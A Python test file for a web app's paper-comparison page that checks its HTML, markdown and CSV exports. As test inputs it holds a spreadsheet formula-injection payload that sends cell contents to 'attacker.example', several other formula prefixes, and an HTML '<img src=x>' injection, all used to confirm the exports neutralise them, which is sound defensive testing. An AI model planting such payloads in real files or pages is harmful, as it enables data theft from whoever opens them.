"""The comparison page: one built table as HTML (parsed), markdown and CSV (read back with the csv module)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from bs4 import BeautifulSoup

from pages.compare import CompareCell, ComparePage, CompareRow, spreadsheet_safe

PAPERS = "2004.07180,1802.05365,2005.02877"
ASPECTS = "task,data set,method,training details"


@pytest.fixture(scope="module")
def client(demo):
    from scholarloom.app import create_app

    return httpx.AsyncClient(transport=httpx.ASGITransport(app=create_app(demo, with_chat=False)), base_url="http://t")


async def test_html_markdown_and_csv_hold_the_same_cells(client, demo):
    query = {"ids": PAPERS, "aspects": ASPECTS}
    response = await client.get("/compare", params=query)
    assert response.status_code == 200 and "script-src 'none'" in response.headers["content-security-policy"]
    page = BeautifulSoup(response.text, "html.parser")
    assert [th.get_text(strip=True) for th in page.select("table.compare thead th")] == ["Paper", *ASPECTS.split(",")]
    rows = page.select("table.compare tbody tr")
    assert [r["data-paper"] for r in rows] == PAPERS.split(",")
    assert rows[0].select_one("th a")["href"].startswith("/papers/2004.07180-specter")
    shown = [[td.get_text(" ", strip=True) for td in r.select("td")] for r in rows]

    table = demo.archive().compare(PAPERS.split(","), ASPECTS.split(","))
    expected = [[f"{c.text} ({c.where})" for c in (table.cell(p.id, a) for a in table.aspects)] for p in table.papers]
    assert [[" ".join(cell.split()) for cell in row] for row in shown] == [
        [" ".join(cell.split()) for cell in row] for row in expected
    ]
    downloads = {a.get_text(strip=True): a["href"] for a in page.select(".downloads a")}
    assert set(downloads) == {"CSV", "Markdown"}

    sheet = await client.get(downloads["CSV"])
    assert sheet.headers["content-type"].startswith("text/csv")
    assert "attachment" in sheet.headers["content-disposition"]
    header, *lines = list(csv.reader(io.StringIO(sheet.text)))
    assert header[:2] == ["paper", "title"] and header[2:4] == ["task", "task (where)"]
    assert [line[0] for line in lines] == PAPERS.split(",")
    for line, paper in zip(lines, table.papers, strict=True):
        cells = [table.cell(paper.id, a) for a in table.aspects]
        assert line[2:] == [spreadsheet_safe(value) for c in cells for value in (c.text, c.where)]

    markdown = (await client.get(downloads["Markdown"])).text
    assert markdown.startswith("# Comparing 3 papers")
    assert "| Paper | task | data set | method | training details |" in markdown
    body = [line for line in markdown.splitlines() if line.startswith("| [")]
    assert len(body) == 3 and all(line.count(" | ") == 4 for line in body)
    assert (await client.get("/compare", params=query, headers={"accept": "text/markdown"})).text == markdown


def test_a_cell_that_looks_like_a_formula_stays_text_in_a_spreadsheet():
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    row = CompareRow("2004.07180", "@SUM(1+1)", "/papers/2004.07180", "", [CompareCell(hostile, "abstract")])
    page = ComparePage(["2004.07180"], ["-cmd"], [row], [])
    header, line = list(csv.reader(io.StringIO(page.to_csv())))
    assert header[2] == "'-cmd" and line[1:3] == ["'@SUM(1+1)", "'" + hostile]
    assert spreadsheet_safe("Plain text, = inside") == "Plain text, '= inside"
    aspects = ComparePage(["2004.07180"], ["x;=2+3;y", "a|@b"], [row], [])
    raw_header = aspects.to_csv().splitlines()[0]
    assert raw_header.startswith('"paper","title","x;\'=2+3;y"')  # quoted, and no formula after the separator
    assert next(csv.reader(io.StringIO(raw_header)))[4] == "a|'@b"


async def test_unknown_ids_hostile_aspects_and_the_empty_page(client):
    response = await client.get("/compare", params={"ids": "2004.07180,9999.99999", "aspects": "<img src=x>|a,task"})
    page = BeautifulSoup(response.text, "html.parser")
    assert page.select_one("table.compare img") is None and "<img src=x>|a" in page.select("thead th")[1].get_text()
    assert "Not in this archive: 9999.99999" in page.get_text()
    markdown = (await client.get("/compare.md", params={"ids": "2004.07180", "aspects": "a|b"})).text
    assert "| Paper | a\\|b |" in markdown  # a pipe in an aspect cannot split the table
    empty = await client.get("/compare")
    assert empty.status_code == 200 and "Give two or more paper ids" in empty.text
    assert next(csv.reader(io.StringIO((await client.get("/compare.csv")).text))) == [
        "paper", "title", "task", "task (where)", "data set", "data set (where)", "method", "method (where)",
        "main result", "main result (where)"]  # fmt: skip


async def test_a_signed_out_readers_table_is_smaller(demo):
    """Each cell costs a search: signed out, 4 papers and 4 aspects at most (said on the page); signed in, more."""
    from tests.web.test_follow import app_with_users, client_for

    app = app_with_users(demo, "kim")
    query = {"ids": "2004.07180,1802.05365,2005.02877,2005.07362,2006.12719", "aspects": "task,data set,method,a,b"}
    anonymous = BeautifulSoup((await client_for(app).get("/compare", params=query)).text, "html.parser")
    assert len(anonymous.select("table.compare tbody tr")) == 4 and len(anonymous.select("thead th")) == 5
    assert "Signed out, a table holds at most 4 papers and 4 aspects" in anonymous.get_text()
    signed_in = BeautifulSoup((await client_for(app, "kim").get("/compare", params=query)).text, "html.parser")
    assert len(signed_in.select("table.compare tbody tr")) == 5 and len(signed_in.select("thead th")) == 6
    assert "Signed out" not in signed_in.get_text()
